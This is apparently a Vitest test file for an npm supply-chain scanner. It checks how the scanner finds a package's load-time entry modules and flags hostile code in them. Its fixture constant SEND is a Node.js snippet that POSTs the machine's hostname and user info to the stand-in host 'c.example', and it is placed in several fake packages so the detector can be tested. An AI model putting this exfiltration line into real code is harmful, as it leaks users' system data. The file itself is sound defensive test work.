/**
 * The entry modules a `require` or `import` of the package runs, kept while the tarball streams
 * (src/sources/npm/tarball.ts, `loadCode`; docs/checks.md, `load-time-code`), and judged by
 * load-time-code from those facts.
 */
import { describe, expect, test } from 'vitest';
import { readTarball } from '../../src/sources/npm/tarball.js';
import check from '../../src/checks/load-time-code.js';
import { registryFacts } from '../support/evidence-builder.js';
import { makeTgz, type TarEntry } from './make-tgz.js';

async function read(entries: TarEntry[]) {
  const result = await readTarball(makeTgz(entries), {}, []);
  if (result.status !== 'ok') throw new Error(`expected ok, got: ${result.reason}`);
  return result.facts;
}

const pkg = (fields: Record<string, unknown> = {}) => ({ path: 'package/package.json', body: JSON.stringify({ name: 'p', version: '1.0.0', ...fields }) });
const SEND = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";

describe('loadCode', () => {
  test("the `main`, and the local modules it loads; another file is not read", async () => {
    const facts = await read([pkg({ main: 'lib/main.js' }), { path: 'package/lib/main.js', body: "module.exports = require('./util');" }, { path: 'package/lib/util.js', body: 'module.exports = 1;' }, { path: 'package/other.js', body: 'x()' }]);
    expect(facts.loadCode?.entries).toEqual(['.']);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['lib/main.js', 'lib/util.js']);
  });

  test('without `main`: index.js; an entry module that comes before the package.json is kept too', async () => {
    const facts = await read([{ path: 'package/index.js', body: SEND }, pkg()]);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['index.js']);
    const outcome = check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never);
    expect([outcome.score, outcome.messageId, outcome.holdVerdict === undefined]).toEqual([0, 'hostile', false]);
    expect(outcome.data?.flags).toEqual(['exfiltration']);
  });

  test('`exports`: the "." entry\'s require, import and default targets; subpaths and other conditions are not entries', async () => {
    const facts = await read([
      pkg({ exports: { '.': { types: './t.d.ts', import: './esm/index.mjs', require: './cjs/index.cjs' }, './sub': './sub.js' } }),
      { path: 'package/esm/index.mjs', body: 'export default 1;' },
      { path: 'package/cjs/index.cjs', body: 'module.exports = 1;' },
      { path: 'package/sub.js', body: SEND },
    ]);
    expect(facts.loadCode?.entries).toEqual(['.', './esm/index.mjs', './cjs/index.cjs']);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['esm/index.mjs', 'cjs/index.cjs']);
    expect(facts.loadCode?.missing).toEqual(['index.js']);
    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).messageId).toBe('clean');
  });

  test('`exports` with subpaths only: a bare require runs none of them, so none is an entry; the main is read as `node .` runs it', async () => {
    const facts = await read([pkg({ exports: { './register': './register.js' } }), { path: 'package/register.js', body: SEND }]);
    expect(facts.loadCode?.entries).toEqual(['.']);
    expect(facts.loadCode?.files).toEqual([]);
    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).messageId).toBe('no-entry');
    const withMain = await read([pkg({ main: 'main.js', exports: { './register': './register.js' } }), { path: 'package/main.js', body: SEND }, { path: 'package/register.js', body: SEND }]);
    expect(withMain.loadCode?.files.map((f) => f.path)).toEqual(['main.js']);
  });

  test('an exports target that is not a plain path in the package is not named', async () => {
    const facts = await read([pkg({ exports: { require: '../x.js', default: './a b.js', import: './ok.js' } }), { path: 'package/ok.js', body: '' }]);
    expect(facts.loadCode?.entries).toEqual(['.', './ok.js']);
  });

  test('no entry module: not applicable; a package.json that cannot be read: unknown', async () => {
    const none = await read([pkg({ main: 'dist/index.js' }), { path: 'package/README.md', body: '# p' }]);
    expect(none.loadCode?.files).toEqual([]);
    const outcome = check.evaluate({ registry: registryFacts(), tarball: none }, {} as never);
    expect([outcome.score, outcome.messageId, outcome.notApplicable]).toEqual([null, 'no-entry', true]);
    const broken = await read([{ path: 'package/package.json', body: '{' }, { path: 'package/index.js', body: SEND }]);
    expect(broken.loadCode).toBeUndefined();
    const unknown = check.evaluate({ registry: registryFacts(), tarball: broken }, {} as never);
    expect([unknown.score, unknown.messageId, unknown.notApplicable]).toEqual([null, 'unread', undefined]);
  });

  test('an entry module that streams past before the package.json, once the pool is full: named for a second reading, which reads it', async () => {
    // More code before the entry than the reader pools (4 MiB), then the package.json naming it late, as webpack's archive has it.
    const filler = Array.from({ length: 4 }, (_, i) => ({ path: `package/a/f${i}.js`, body: `// ${'x'.repeat(1024 * 1024 - 3)}` }));
    const entries = [...filler, { path: 'package/lib/index.js', body: SEND }, pkg({ main: 'lib/index.js' })];
    const first = await readTarball(makeTgz(entries), {}, []);
    if (first.status !== 'ok') throw new Error(first.reason);
    expect(first.facts.loadCode?.files).toEqual([]);
    expect(first.facts.loadCode?.unread).toEqual(['lib/index.js']);
    expect(first.rereadLoad).toEqual(['lib/index.js']);
    expect(check.evaluate({ registry: registryFacts(), tarball: first.facts }, {} as never).messageId).toBe('unread');
    const second = await readTarball(makeTgz(entries), {}, [], [], [], first.rereadLoad);
    if (second.status !== 'ok') throw new Error(second.reason);
    expect(second.facts.loadCode?.files.map((f) => f.path)).toEqual(['lib/index.js']);
    expect(second.rereadLoad).toBeUndefined();
    const outcome = check.evaluate({ registry: registryFacts(), tarball: second.facts }, {} as never);
    expect([outcome.score, outcome.messageId]).toEqual([0, 'hostile']);
  });

  test("an entry module that is a native addon or JSON is not JavaScript to read (@rollup/rollup-linux-x64-gnu 4.69.3's `main`)", async () => {
    const addon = await read([pkg({ main: 'rollup.linux-x64-gnu.node' }), { path: 'package/rollup.linux-x64-gnu.node', body: '\u007fELF\u0002\u0001\u0001\u0000{(' }]);
    expect(addon.loadCode?.files).toEqual([]);
    expect(addon.loadCode?.unread).toEqual([]);
    const outcome = check.evaluate({ registry: registryFacts(), tarball: addon }, {} as never);
    expect([outcome.score, outcome.messageId, outcome.notApplicable]).toEqual([null, 'no-entry', true]);
    const data = await read([pkg({ main: 'index.json' }), { path: 'package/index.json', body: '["MIT"]' }]);
    expect(data.loadCode?.files).toEqual([]);
  });

  test("a WebAssembly module the entry imports is a binary, not JavaScript to read (@dqbd/tiktoken 1.0.22's tiktoken.js, fixtures/PROVENANCE.md)", async () => {
    // Its `default` export, copied unchanged; the .wasm's opening bytes, then brackets that do not balance (as a binary's need not).
    const entry = 'import * as wasm from "./tiktoken_bg.wasm";\nexport * from "./tiktoken_bg.js";\nimport { __wbg_set_wasm } from "./tiktoken_bg.js";\n__wbg_set_wasm(wasm);\n';
    const facts = await read([
      pkg({ exports: { '.': { default: './tiktoken.js' } } }),
      { path: 'package/tiktoken.js', body: entry },
      { path: 'package/tiktoken_bg.js', body: 'let wasm;\nexport function __wbg_set_wasm(val) { wasm = val; }\n' },
      { path: 'package/tiktoken_bg.wasm', body: '\u0000asm\u0001\u0000\u0000\u0000\u0001{((' },
    ]);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['tiktoken.js', 'tiktoken_bg.js']);
    expect(facts.loadCode?.unread).toEqual([]);
    const outcome = check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never);
    expect([outcome.score, outcome.messageId]).toEqual([null, 'clean']);
  });

  test('the modules the running code loads are read first; lazy requires in functions the load does not run do not spend the caps (geotiff 3.0.5 ran out of them)', async () => {
    // 70 modules required only inside an exported function, written before the one require the load makes.
    const lazy = Array.from({ length: 70 }, (_, i) => `  if (name === 'm${i}') return require('./lazy/m${i}');`).join('\n');
    const main = `exports.codec = function (name) {\n${lazy}\n};\nrequire('./setup');\n`;
    const modules = Array.from({ length: 70 }, (_, i) => ({ path: `package/lazy/m${i}.js`, body: `module.exports = ${i};` }));
    const facts = await read([pkg(), { path: 'package/index.js', body: main }, ...modules, { path: 'package/setup.js', body: SEND }]);
    const paths = facts.loadCode?.files.map((f) => f.path) ?? [];
    expect(paths.slice(0, 2)).toEqual(['index.js', 'setup.js']);
    // What the caps leave goes to the lazy ones (64 files in all); the others are not load-time code, so not missed.
    expect([paths.length, paths[2]]).toEqual([64, 'lazy/m0.js']);
    expect(facts.loadCode?.unread).toEqual([]);
    const outcome = check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never);
    expect([outcome.score, outcome.messageId, outcome.data?.flagged]).toEqual([0, 'hostile', ['setup.js']]);
    const benign = await read([pkg(), { path: 'package/index.js', body: main }, ...modules, { path: 'package/setup.js', body: 'module.exports = 1;' }]);
    expect(check.evaluate({ registry: registryFacts(), tarball: benign }, {} as never).messageId).toBe('clean');
  });

  test('modules left unread name the limit each reached: the 64 files read, the 1 MiB a loaded module is kept to (graphql-scalars 1.25.0 said only "past the caps")', async () => {
    const eager = Array.from({ length: 70 }, (_, i) => `require('./m/m${i}');`).join('\n');
    const modules = Array.from({ length: 70 }, (_, i) => ({ path: `package/m/m${i}.js`, body: `module.exports = ${i};` }));
    const big = { path: 'package/big.js', body: `module.exports = '${'x'.repeat(1024 * 1024)}';` };
    const facts = await read([pkg(), { path: 'package/index.js', body: `require('./big');\n${eager}` }, big, ...modules]);
    const unread = facts.loadCode?.unread ?? [];
    expect(unread.length).toBe(8);
    expect(facts.loadCode?.unreadCauses?.['big.js']).toEqual({ cap: 'module-size', limit: 1024 * 1024 });
    expect(facts.loadCode?.unreadCauses?.[unread.at(-1) ?? '']).toEqual({ cap: 'files', limit: 64 });
    const outcome = check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never);
    expect([outcome.score, outcome.messageId]).toEqual([null, 'unread']);
    const reason = String(outcome.data?.reason);
    expect(reason).toContain('big.js: larger than the 1 MiB');
    expect(reason).toMatch(/ and 4 more: past the cap of 64 files read/);
    expect(reason).not.toContain('past the caps');
  });

  test('a module loaded only lazily is read when whole and followed, adding its findings; one read in part or not followed adds no unknown', async () => {
    const main = "exports.a = () => require('./a');\nexports.b = async () => (await import('./b.js')).default;\nexports.c = function () { return require('./c'); };\n";
    const big = `module.exports = '${'x'.repeat(1024 * 1024)}';`;
    const facts = await read([pkg(), { path: 'package/index.js', body: main }, { path: 'package/a.js', body: SEND }, { path: 'package/b.js', body: 'export default function (' }, { path: 'package/c.js', body: big }]);
    expect(facts.loadCode?.files.map((f) => [f.path, f.truncated])).toEqual([['index.js', false], ['a.js', false]]);
    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).messageId).toBe('hostile');
    const clean = await read([pkg(), { path: 'package/index.js', body: main }, { path: 'package/a.js', body: 'module.exports = 1;' }, { path: 'package/b.js', body: 'export default function (' }, { path: 'package/c.js', body: big }]);
    expect([clean.loadCode?.unread, check.evaluate({ registry: registryFacts(), tarball: clean }, {} as never).messageId]).toEqual([[], 'clean']);
  });

  test("a module required by two spellings (`./packet.js`, `../packets/packet`) is read once, spending the caps once (mysql2 3.25.0 read lib/packets/packet.js twice)", async () => {
    const facts = await read([
      pkg(),
      { path: 'package/index.js', body: "require('./lib/a.js');\nrequire('./lib/b');" },
      { path: 'package/lib/a.js', body: "module.exports = require('./packet.js');" },
      { path: 'package/lib/b.js', body: "module.exports = require('../lib/packet');" },
      { path: 'package/lib/packet.js', body: 'module.exports = 1;' },
    ]);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['index.js', 'lib/a.js', 'lib/b.js', 'lib/packet.js']);
    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).data?.files).toEqual(['index.js', 'lib/a.js', 'lib/b.js', 'lib/packet.js']);
  });

  test("a module named only in a comment (a JSDoc type's `import(\"./types/index.d.ts\")`, binaryextensions 6.11.0) is not loaded, so not missed", async () => {
    const facts = await read([pkg(), { path: 'package/index.js', body: '/** @type {typeof import("./types/index.d.ts")} */\nmodule.exports = 1;' }, { path: 'package/types/index.d.ts', body: 'export {};' }]);
    expect([facts.loadCode?.files.map((f) => f.path), facts.loadCode?.unread]).toEqual([['index.js'], []]);
    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).messageId).toBe('clean');
  });

  test('a bundled package under node_modules is not an entry of this one, and a binding.gyp is not load code', async () => {
    const facts = await read([pkg({ main: 'index.js' }), { path: 'package/index.js', body: "require('dep')" }, { path: 'package/node_modules/dep/index.js', body: SEND }, { path: 'package/binding.gyp', body: "{'targets':[]}" }]);
    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['index.js']);
  });
});
